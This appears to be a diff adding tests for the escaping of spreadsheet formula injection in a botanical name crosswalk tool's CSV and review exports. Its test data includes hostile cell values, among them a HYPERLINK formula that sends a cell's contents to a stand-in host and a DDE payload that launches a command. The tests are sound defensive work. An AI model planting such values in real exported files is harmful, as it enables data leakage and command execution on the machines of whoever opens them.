@@ -20,6 +20,7 @@ from mappings.review import (
     save_decisions,
 )
 from node.errors import InvalidInput
+from node.spreadsheet import safe_cell, unescape_cell
 
 
 def _taxa(*rows: tuple[str, str]) -> pa.Table:
@@ -170,3 +171,51 @@ def test_crosswalk__counts_and_accepted_names_for_exports():
     accepted = crosswalk.accepted_names()
     assert accepted["Chloranthus nultistachys Pei"] == "Chloranthus multistachys Pei"
     assert accepted["Senna alata (Linnaeus) Roxburgh"] == "Senna alata (Linnaeus) Roxburgh"
+
+
+# Formula-like names a partner's checklist can carry into files curators open.
+FORMULAS = (
+    '=HYPERLINK("http://example.invalid/?"&A1,"Paphiopedilum")',
+    "=cmd|' /C calc'!A0",
+    "+Cassia alata",
+    "-Cassia alata",
+    "@SUM(1+1)",
+    "'=already quoted",
+)
+
+
+@pytest.mark.parametrize("value", [*FORMULAS, "\tx", "\rx", "'", "''x", "Cassia alata", ""])
+def test_safe_cell__escapes_formula_starts_and_reads_back_exactly(value: str) -> None:
+    written = safe_cell(value)
+    assert unescape_cell(written) == value
+    assert written == value or written == "'" + value
+    assert (written != value) == (value[:1] in ("=", "+", "-", "@", "\t", "\r", "'"))
+
+
+def test_crosswalk_files__formula_like_names_are_written_as_text(tmp_path):
+    hostile = _taxa(*((name, "") for name in FORMULAS), ("Cassia alata Linn.", "翅荚决明"))
+    crosswalk = reconcile(hostile, RIGHT)
+    paths = crosswalk.write(tmp_path)
+
+    for kind in ("csv", "review"):
+        cells = [v for row in _read(paths[kind]) for v in row.values() if v]
+        risky = [v for v in cells if v[0] in "=+-@\t\r"]
+        assert not risky, f"{kind}: {risky}"
+        left = {row["left_name"] for row in _read(paths[kind])}
+        assert {"'" + name for name in FORMULAS} <= left, kind
+
+
+def test_decisions__a_reviewed_file_reads_back_the_names_as_they_were(tmp_path):
+    hostile = _taxa(*((name, "") for name in FORMULAS))
+    paths = reconcile(hostile, RIGHT).write(tmp_path)
+    rows = _read(paths["review"])
+    for row in rows:
+        row["decision"] = "reject"
+    with open(paths["review"], "w", encoding="utf-8", newline="") as handle:
+        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
+        writer.writeheader()
+        writer.writerows(rows)
+
+    decisions = load_decisions(paths["review"])
+
+    assert {row["left_name"] for row in decisions.rows()} == set(FORMULAS)
